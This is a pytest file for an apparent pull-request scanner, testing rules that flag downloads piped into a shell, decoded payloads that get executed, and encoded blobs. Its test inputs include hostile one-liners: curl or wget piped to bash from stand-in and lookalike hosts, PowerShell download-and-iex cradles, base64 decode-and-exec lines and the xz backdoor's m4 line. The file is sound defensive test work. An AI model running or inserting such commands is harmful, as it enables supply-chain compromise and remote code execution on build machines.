"""Rules on added lines: downloads piped into a shell, decoded content executed, encoded blobs."""
from __future__ import annotations

import pytest

from prguard import findings
from prguard.findings import hunks
from tests.support.pr_content import changed, hunk
from tests.support.pull_requests import pull_request

WORKFLOW_CONTEXT = ["    steps:", "      - uses: actions/checkout@v4"]


def found(doc, rule: str):
    return [(f.severity.label, f.path, f.line) for f in findings.check(doc, runner=None).findings
            if f.rule_id == f"prguard/{rule}"]


def workflow_line(line: str, path: str = ".github/workflows/ci.yml") -> dict:
    return pull_request(changed(path, hunk(12, WORKFLOW_CONTEXT, added=["      - name: Setup", f"        run: {line}"])))


def test_hunk_headers_map_added_lines_to_head_file_lines():
    patch = ("@@ -10,4 +10,5 @@ jobs:\n   build:\n-    runs-on: ubuntu-20.04\n+    runs-on: ubuntu-latest\n"
             "+    timeout-minutes: 10\n     steps:\n@@ -40,2 +41,3 @@\n       - run: make\n+      - run: make test\n"
             "\\ No newline at end of file")
    parsed = hunks.parse(patch)
    assert [(line.number, line.text) for line in hunks.added_lines(parsed)] == [
        (11, "    runs-on: ubuntu-latest"), (12, "    timeout-minutes: 10"), (42, "      - run: make test")]
    assert [line.number for line in hunks.removed_lines(parsed)] == [11]
    assert hunks.parse(None) == [] and hunks.parse("Binary files differ") == []


@pytest.mark.parametrize("line", [
    "curl -sSL https://gh-actions-cache.com/setup.sh | bash",
    "wget -qO- http://185.62.57.1/x | sudo -E sh",
    "bash <(curl -fsSL https://pastebin-cdn.net/raw/9ad7)",
    'sh -c "$(curl -fsSL https://cdn.jsdelivr-mirror.org/i.sh)"',
    "curl -s https://example.net/p.py | python3 -",
    "iwr https://evil.example/a.ps1 -UseBasicParsing | iex",
    "iex (New-Object Net.WebClient).DownloadString('https://evil.example/a.ps1')",
    "bash <(curl -s https://codecov.io/bash)",  # the Codecov uploader compromised in 2021
])
def test_a_download_piped_into_a_shell_in_a_workflow_is_high(line):
    assert found(workflow_line(line), "pipe-to-shell") == [("high", ".github/workflows/ci.yml", 15)]


def test_a_vendors_official_installer_in_ci_is_medium_not_high():
    lines = ["curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
             "curl -LsSf https://astral.sh/uv/install.sh | sh",
             "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b "
             "$(go env GOPATH)/bin v1.55.2"]
    for line in lines:
        assert found(workflow_line(line), "pipe-to-shell") == [("medium", ".github/workflows/ci.yml", 15)], line


def test_an_installer_one_liner_in_a_readme_is_documentation_and_only_low():
    readme = changed("README.md", hunk(20, ["## Install", "", "```sh"], added=[
        "curl -LsSf https://astral.sh/uv/install.sh | sh", "curl -fsSL https://get.example.dev | bash"],
        context_after=["```"]))
    docs = changed("docs/install.rst", hunk(3, added=["    curl -sSL https://install.python-poetry.org | python3 -"]))
    assert found(pull_request(readme, docs), "pipe-to-shell") == [
        ("low", "README.md", 23), ("low", "README.md", 24), ("low", "docs/install.rst", 3)]


def test_downloads_that_are_not_executed_are_not_findings():
    lines = ["curl -fsSL -o codecov https://uploader.codecov.io/latest/linux/codecov",
             "curl -s https://api.github.com/repos/x/y/releases | jq -r '.[0].tag_name'",
             "wget -q https://example.com/tool.tar.gz && tar xzf tool.tar.gz",
             "curl -sSf https://x.example || sh ./fallback.sh"]  # "||" is "or", not a pipe
    for line in lines:
        assert found(workflow_line(line), "pipe-to-shell") == [], line


def test_a_removed_pipe_to_shell_is_not_a_finding():
    patch = hunk(14, removed=["        run: curl -sSL https://evil.example/x.sh | bash"], added=["        run: make"])
    assert found(pull_request(changed(".github/workflows/ci.yml", patch)), "pipe-to-shell") == []


@pytest.mark.parametrize("path,line", [
    (".github/workflows/ci.yml", "        run: echo aGVsbG8K | base64 -d | bash"),
    ("scripts/bootstrap.sh", 'eval "$(echo ZWNobyBoaQ== | base64 --decode)"'),
    ("setup.py", "exec(__import__('zlib').decompress(__import__('base64').b64decode(PAYLOAD)))"),
    ("src/pkg/__init__.py", "exec(base64.b64decode('aW1wb3J0IG9z'))"),
    ("index.js", "eval(Buffer.from(data, 'base64').toString())"),
    ("install.ps1", "powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA"),
    ("m4/build-to-host.m4", "  gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"' ; xz -d < $f | eval $gl_path_map | sh"),
])
def test_decoded_content_executed_is_high(path, line):
    assert found(pull_request(changed(path, hunk(5, added=[line]))), "decoded-exec") == [("high", path, 5)]


def test_decoding_that_does_not_execute_is_not_a_finding():
    lines = [("scripts/release.sh", 'echo "$GPG_KEY" | base64 -d > key.gpg'),
             ("src/codec.py", "data = base64.b64decode(payload)"),
             ("src/app.js", "const text = atob(encoded);"),
             ("src/x.py", "exec(compiled_code, namespace)")]
    for path, line in lines:
        assert found(pull_request(changed(path, hunk(5, added=[line]))), "decoded-exec") == [], line


BLOB = ("H4sIAAAAAAAAA+1YbW/bNhD2Z/0KQp+2oK4kW3aSAkPRNi0wbCiGNt2XIDBoibZpSaRKUnaMIP99R0p2LFvOS5d2"
        "2ODnQyLz7jkej3cPKa2oFq9+uPuwO/4Rlu5wQ6GVQMVP9ktvXzq/6fydTmo+5S9TJm9J3H/OI5LqhaVFQnjj5aYUPv7cn1YA"
        "Zr8Wq0LkXc3VbN5mT2yU7pOiJ4hG6fDsA1eR9tK0wQ+vBnM/lYxC8uP3oIaS")


def test_a_long_encoded_blob_in_a_script_is_medium():
    assert found(pull_request(changed("scripts/ci.sh", hunk(3, added=[f'P="{BLOB}"']))), "encoded-blob") == [
        ("medium", "scripts/ci.sh", 3)]


def test_data_files_images_and_integrity_hashes_are_not_encoded_blobs():
    files = [changed("docs/logo.svg", hunk(1, added=[f'<image href="data:image/png;base64,{BLOB}"/>'])),
             changed("tests/fixtures/payload.json", hunk(1, added=[f'"body": "{BLOB}"'])),
             changed("src/icons.ts", hunk(1, added=[f'export const logo = "data:image/png;base64,{BLOB}";'])),
             changed("package-lock.json", hunk(9, added=[f'"integrity": "sha512-{BLOB}"'])),
             changed("README.md", hunk(1, added=[BLOB]))]
    assert found(pull_request(*files), "encoded-blob") == []
